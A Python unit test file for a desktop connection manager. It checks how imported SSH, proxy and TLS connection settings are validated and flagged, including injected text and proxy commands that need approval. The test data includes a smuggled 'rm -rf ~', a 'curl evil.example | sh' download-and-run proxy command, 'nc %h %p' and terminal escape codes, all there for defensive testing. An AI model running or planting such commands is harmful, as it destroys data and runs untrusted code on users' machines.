"""What saving the connections of somebody else's file would mean here."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from desktop.core.exchange import Arrival
from desktop.core.model import DIRECT, Auth, AuthMethod, Connection, Endpoint, Hop, Proxy, ProxyKind, Route
from desktop.core.tls import Tls, TlsMode
from desktop.core.validation import Fault, Field
from desktop.engine.arrivals import arrivals_of
from tests.unit.engine.stage import a_connection

SALES = a_connection("sales", local_port=15432)


def elsewhere(connection: Connection, host: str = "other.internal") -> Connection:
    return replace(connection, forward=replace(connection.forward, target=Endpoint(host, 5432)))


def with_identity(path: str) -> Connection:
    hop = replace(SALES.route.bastion, auth=Auth(AuthMethod.KEY_FILE, path))
    return replace(SALES, route=Route((hop,)))


def one(given: Connection, *saved: Connection) -> Arrival:
    (arrival,) = arrivals_of([given], saved)
    return arrival


def test_a_new_connection_is_saved_as_it_is_under_an_id_of_its_own() -> None:
    arrival = one(SALES)
    assert arrival.is_new
    assert arrival.connection.id != SALES.id
    assert replace(arrival.connection, id=SALES.id) == SALES


def test_what_leads_to_the_same_place_is_known_whatever_it_is_called() -> None:
    arrival = one(replace(SALES, name="Verkauf", group="Team"), SALES)
    assert (arrival.known_as, arrival.is_new, arrival.can_be_saved) == ("sales", False, True)


def test_another_bastion_is_another_place() -> None:
    hop = replace(SALES.route.bastion, host="elsewhere.example.com")
    assert one(replace(SALES, route=Route((hop,))), SALES).is_new


def test_a_taken_name_and_port_give_way() -> None:
    arrival = one(elsewhere(SALES), SALES)
    assert (arrival.connection.name, arrival.connection.forward.local_port) == ("sales 2", 0)
    assert arrival.lost_its_port


def test_two_of_one_file_do_not_get_in_each_others_way() -> None:
    first, second = arrivals_of([SALES, elsewhere(SALES)], ())
    assert (first.connection.name, second.connection.name) == ("sales", "sales 2")
    assert (first.connection.forward.local_port, second.connection.forward.local_port) == (15432, 0)


def test_what_could_not_be_saved_from_the_form_can_t_be_from_a_file() -> None:
    arrival = one(replace(SALES, forward=replace(SALES.forward, local_host="0.0.0.0")))
    assert arrival.problem is not None
    assert (arrival.problem.field, arrival.problem.fault) == (Field.LOCAL_HOST, Fault.NOT_LOOPBACK)
    assert not arrival.is_new


def test_a_name_that_nobody_can_see_is_none() -> None:
    problem = one(replace(SALES, name="\u200b")).problem
    assert problem is not None
    assert (problem.field, problem.fault) == (Field.NAME, Fault.EMPTY)


def test_control_characters_do_not_reach_a_copied_command() -> None:
    arrival = one(replace(SALES, database="sales\nrm -rf ~", warehouse_user="me\x1b[A"))
    assert (arrival.connection.database, arrival.connection.warehouse_user) == ("sales rm -rf ~", "me [A")


def test_a_missing_identity_file_is_noticed(tmp_path: Path) -> None:
    path = tmp_path / "id_ed25519"
    assert one(with_identity(str(path))).missing_files == (str(path),)
    path.touch()
    assert one(with_identity(str(path))).missing_files == ()


def test_a_strangers_path_is_no_reason_to_fail() -> None:
    assert one(with_identity("nul\0")).missing_files
    assert one(with_identity("~nobody-of-that-name/key")).missing_files


def behind(proxy: Proxy) -> Connection:
    return replace(SALES, route=replace(SALES.route, proxy=proxy))


def test_a_strangers_program_waits_for_a_yes() -> None:
    arrival = one(behind(Proxy(ProxyKind.COMMAND, command="curl evil.example | sh")))
    assert (arrival.is_new, arrival.is_harmless) == (True, False)
    assert arrival.command == "curl evil.example | sh"


def test_a_proxy_that_is_no_program_is_as_harmless_as_a_bastion() -> None:
    arrival = one(behind(Proxy(ProxyKind.SOCKS5, "proxy", 1080)))
    assert (arrival.is_harmless, arrival.command) == (True, "")


def test_what_is_hidden_in_a_program_can_t_be_saved() -> None:
    for hidden in ("true\nevil", "true \u202elive", "true\x1b[2K"):
        problem = one(behind(Proxy(ProxyKind.COMMAND, command=hidden))).problem
        assert problem is not None
        assert (problem.field, problem.fault) == (Field.PROXY_COMMAND, Fault.HAS_INVISIBLE)


def test_the_same_bastion_behind_a_program_is_another_place() -> None:
    arrival = one(behind(Proxy(ProxyKind.COMMAND, command="nc %h %p")), SALES)
    assert (arrival.known_as, arrival.is_harmless) == ("", False)


def test_missing_files_of_every_hop_are_named() -> None:
    jump = Hop("jump", "me", auth=Auth(AuthMethod.KEY_FILE, "/no/key", certificate_file="/no/cert"))
    arrival = one(replace(SALES, route=Route((jump, SALES.route.bastion))))
    assert arrival.missing_files == ("/no/key", "/no/cert")


def test_a_direct_connection_needs_no_port_and_is_known_again() -> None:
    direct = replace(SALES, route=DIRECT)
    arrival = one(direct, SALES)
    assert (arrival.is_new, arrival.problem, arrival.lost_its_port) == (True, None, False)
    assert one(direct, direct).known_as == "sales"


def test_missing_authorities_are_noticed() -> None:
    assert one(replace(SALES, tls=Tls(TlsMode.VERIFY, "/no/ca.pem"))).missing_files == ("/no/ca.pem",)
